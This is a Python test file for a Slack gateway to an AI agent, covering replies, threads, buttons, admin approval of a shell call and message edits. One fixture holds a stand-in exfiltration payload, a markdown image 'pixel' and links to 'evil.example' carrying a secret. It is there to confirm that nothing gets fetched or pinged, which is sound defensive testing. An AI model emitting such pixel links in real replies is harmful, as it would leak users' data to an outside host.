"""One gateway in a real process: what people write on Slack, and what they get."""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Iterator
from contextlib import closing

import pytest

from .conftest import BOSS, Gateways, end
from .fake_rules import buttons_of, words_of
from .fake_slack import BOT, Slack

STORY = "\n\n".join(
    f"## Part {n}\n\n" + f"**bold {n}** <tag> & `code <{n}>` 🙂 " * 30 for n in range(24)
)
URL = "https://evil.example/?d=SECRET"
LEAK = f"See {URL} and <{URL}> [this]({URL}) ![pixel]({URL}) <!channel> <@U0BOSS>"
SCRIPT = {
    "steps": [
        {"when": "^story", "text": STORY, "repeat": True},
        {"when": "^leak", "text": LEAK, "repeat": True},
        {"when": "^ask", "tools": [{"name": "clarify", "arguments": {
            "question": "Which one?", "choices": ["Red & blue", "G" * 80]}}], "repeat": True},
        {"when": "^Red & blue", "text": "red it is", "repeat": True},
        {"when": "^launch", "tools": [{"name": "bash", "arguments": {"command": "sudo true"}}],
         "repeat": True},
        {"when": "exit code|Denied|Error", "text": "finished", "repeat": True},
        {"when": "^hello there$", "text": "hello back", "repeat": True},
        {"when": "^endless", "text": "never", "delay": 60, "repeat": True},
        {"when": "^slow", "text": "slowly", "delay": 1, "repeat": True},
        {"when": "^corrected$", "text": "so it is", "repeat": True},
        {"when": ".", "text": "answered", "repeat": True},
    ]
}  # fmt: skip


@pytest.fixture(scope="module")
def slack() -> Iterator[Slack]:
    made = Slack()
    made.room("D0BOSS", BOSS)
    yield made
    made.close()


@pytest.fixture(scope="module")
def gateways(tmp_path_factory: pytest.TempPathFactory, slack: Slack) -> Iterator[Gateways]:
    made = Gateways(tmp_path_factory.mktemp("slack"), slack)
    access = {"admins": [f"slack:{BOSS}"], "allow": ["slack:*"]}
    made.configure(SCRIPT, access=access, shell={}, clarify={})
    gateway = made.start()
    yield made
    assert end(gateway) == 0
    assert slack.fetched == []
    assert slack.pings == []
    assert slack.sockets.late == []
    assert "a-secret" not in made.said
    made.close()


@pytest.fixture
def dm(slack: Slack, gateways: Gateways, request: pytest.FixtureRequest) -> str:
    """Unused direct messages."""
    return f"D{abs(hash(request.node.name)) % 10**8:08}"


@pytest.fixture
def channel(slack: Slack, gateways: Gateways, request: pytest.FixtureRequest) -> str:
    """An unused channel."""
    return f"C{abs(hash(request.node.name)) % 10**8:08}"


@pytest.mark.slow
def test_message_gets_one_reply_and_is_acknowledged(slack: Slack, dm: str) -> None:
    slack.say(dm, "hello there")
    shown = slack.find("hello back", dm)
    assert "thread_ts" not in shown
    slack.settle()
    assert slack.texts(dm) == ["hello back"]


@pytest.mark.slow
def test_mention_in_channel_starts_thread(slack: Slack, channel: str) -> None:
    slack.say(channel, "nothing for it")
    asked = slack.say(channel, f"<@{BOT}> hello there")
    shown = slack.find("hello back", channel)
    assert shown["thread_ts"] == asked["ts"]
    slack.say(channel, "slow", thread=asked["ts"])
    slack.wait(lambda: (channel, asked["ts"]) in slack.status)
    slack.find("slowly", channel)
    slack.say(channel, f"<@{BOSS}> what do you think?", thread=asked["ts"])
    slack.say(channel, f"<@{BOT}> corrected", thread=asked["ts"])
    slack.find("so it is", channel)
    assert slack.texts(channel) == ["hello back", "slowly", "so it is"]
    assert slack.status == {}


@pytest.mark.slow
@pytest.mark.parametrize("order", ["before", "after"])
def test_mention_received_twice_gets_one_reply(slack: Slack, channel: str, order: str) -> None:
    slack.mentions_twice = order
    try:
        slack.say(channel, f"<@{BOT}> hello there")
        slack.say(channel, f"<@{BOT}> more")
        slack.find("hello back", channel)
        slack.find("answered", channel)
        slack.settle()
    finally:
        slack.mentions_twice = ""
    assert sorted(slack.texts(channel)) == ["answered", "hello back"]


@pytest.mark.long
def test_reply_pings_nobody_and_loads_no_url(slack: Slack, dm: str) -> None:
    slack.say(dm, "leak")
    shown = slack.find(URL, dm)
    assert "<!channel>" in words_of(shown)
    assert f"[pixel]({URL})" in words_of(shown)
    assert "![" not in words_of(shown)
    assert (slack.pings, slack.fetched) == ([], [])


@pytest.mark.slow
def test_long_reply_is_split_without_losing_text(slack: Slack, dm: str) -> None:
    slack.say(dm, "story")
    slack.wait(lambda: any("bold 23" in text for text in slack.texts(dm)))
    pieces = slack.texts(dm)
    assert len(pieces) > 1
    for n in range(24):
        assert sum(text.count(f"**bold {n}**") for text in pieces) == 30


@pytest.mark.slow
def test_question_buttons_work_once(slack: Slack, dm: str) -> None:
    slack.say(dm, "ask")
    question = slack.find("Which one?", dm)
    assert [len(one["text"]["text"]) <= 75 for one in buttons_of(question)] == [True] * 2
    slack.press(question, "Red & blue")
    slack.press(question, "Red & blue")
    slack.find("red it is", dm)
    slack.wait(lambda: not buttons_of(slack.find("Which one?", dm)))
    slack.settle()
    assert slack.texts(dm).count("red it is") == 1
    assert slack.sockets.lost == []


@pytest.mark.slow
def test_admin_approves_with_button(slack: Slack, dm: str) -> None:
    slack.say("D0BOSS", "hello there", BOSS)
    slack.find("hello back", "D0BOSS")
    slack.say(dm, "launch")
    asked = slack.find("sudo true", "D0BOSS")
    slack.press(asked, "Deny", BOSS)
    slack.find("finished", dm)


def test_irrelevant_events_are_ignored(slack: Slack, dm: str) -> None:
    odd = [
        {"type": "message", "channel": dm},
        {"type": "message", "channel": dm, "ts": "x", "user": "U1", "text": None},
        {"type": "message", "channel": dm, "ts": "1.5", "subtype": "message_changed"},
        {"type": "message", "channel": dm, "ts": "1.5", "subtype": "channel_join", "user": "U1"},
        {"type": "reaction_added", "item_user": BOT, "user": "U1", "item": {"type": "file"}},
        {"type": "agent_session_stopped"},
        {"type": "message", "channel": 7, "ts": 8, "files": [None], "attachments": "no"},
        {"type": "brand_new"},
    ]
    for event in odd:
        slack.soon(slack.sockets.event, event | {"event_ts": slack.next_ts()})
    slack.soon(slack.sockets.interaction, "interactive", {"type": "block_actions"})
    slack.soon(slack.sockets.interaction, "interactive", {"type": "view_submission"})
    slack.soon(slack.sockets.interaction, "events_api", {"event": "odd"})
    slack.soon(slack.sockets.interaction, "events_api", {"event": {"event_ts": "x", "item": 5}})
    slack.soon(slack.sockets.interaction, "slash_commands", {})
    slack.say(dm, "hello there")
    slack.find("hello back", dm)
    slack.settle()
    assert slack.texts(dm) == ["hello back"]


@pytest.mark.slow
def test_commands_work_with_exclamation_mark_and_slash(slack: Slack, dm: str, channel: str) -> None:
    person = f"U{dm[1:]}"
    slack.say(dm, "!whoami", person)
    slack.find(person, dm)
    slack.command(dm, "/hookline", "status", person)
    slack.wait(lambda: len(slack.texts(dm)) == 2)
    slack.say(dm, "!!! wow")
    slack.find("answered", dm)


@pytest.mark.slow
def test_command_in_foreign_dm_gets_private_reply_and_moves_no_approvals(
    slack: Slack, dm: str
) -> None:
    slack.say("D0BOSS", "hello there", BOSS)
    slack.find("hello back", "D0BOSS")
    slack.room("D0PAIR", BOSS, "U0FRIEND", is_member=False)
    slack.command("D0PAIR", "/hookline", "whoami", BOSS)
    slack.find(f"slack:{BOSS}", "D0BOSS")
    slack.say(dm, "launch")
    asked = slack.wait(lambda: [m for m in slack.messages("D0BOSS") if buttons_of(m)])
    slack.press(asked[-1], "Deny", BOSS)
    slack.find("finished", dm)
    assert slack.texts("D0PAIR") == []


def test_command_in_channel_without_bot_gets_private_reply(slack: Slack) -> None:
    slack.room("C0FOREIGN", BOSS, is_member=False)
    slack.command("C0FOREIGN", "/hookline", "whoami", BOSS)
    slack.wait(lambda: [one for one in slack.whispers if f"slack:{BOSS}" in one[2]])
    assert {one[:2] for one in slack.whispers} == {("C0FOREIGN", BOSS)}
    assert slack.texts("C0FOREIGN") == []


@pytest.mark.slow
def test_slack_stop_button_stops_turn(slack: Slack, channel: str) -> None:
    asked = slack.say(channel, f"<@{BOT}> endless")
    slack.wait(lambda: (channel, asked["ts"]) in slack.status)
    slack.stop(channel, asked["ts"])
    slack.find("topped", channel)


@pytest.mark.slow
def test_edits_and_deletions_are_received(slack: Slack, gateways: Gateways, dm: str) -> None:
    said = slack.say(dm, "ask")
    slack.find("Which one?", dm)
    slack.edit(dm, said, "corrected")
    other = slack.say(dm, "hello there")
    slack.find("hello back", dm)
    slack.delete(dm, other["ts"])
    slack.settle()
    with closing(sqlite3.connect(gateways.home / "hookline.db")) as db, db:
        rows = db.execute("SELECT body FROM inbox WHERE chat_id = ? ORDER BY received", (dm,))
        kept = [json.loads(row[0]) for row in rows]
    kinds = [(one.get("kind", "message"), one.get("target")) for one in kept]
    assert ("edit", f"{dm}:{said['ts']}") in kinds
    assert ("delete", f"{dm}:{other['ts']}") in kinds


def test_message_fields_reach_the_turn(slack: Slack, gateways: Gateways, channel: str) -> None:
    asked = slack.say(channel, f"<@{BOT}> see <https://a.org|a.org> &amp; <@U0BOSS|boss>")
    answer = slack.find("answered", channel)
    slack.react(channel, answer["ts"], "+1")
    slack.react(channel, asked["ts"], "+1")
    slack.settle()
    chat = f"{channel}:{asked['ts']}"
    with closing(sqlite3.connect(gateways.home / "hookline.db")) as db, db:
        rows = db.execute("SELECT body FROM inbox WHERE chat_id = ? ORDER BY received", (chat,))
        kept = [json.loads(row[0]) for row in rows]
    assert kept[0]["text"] == "see https://a.org & @boss"
    assert (kept[0]["sender"], kept[0]["sent"]) == ("Ann", float(asked["ts"]))
    assert (kept[1]["kind"], kept[1]["text"]) == ("reaction", "👍")
    assert len(kept) == 2
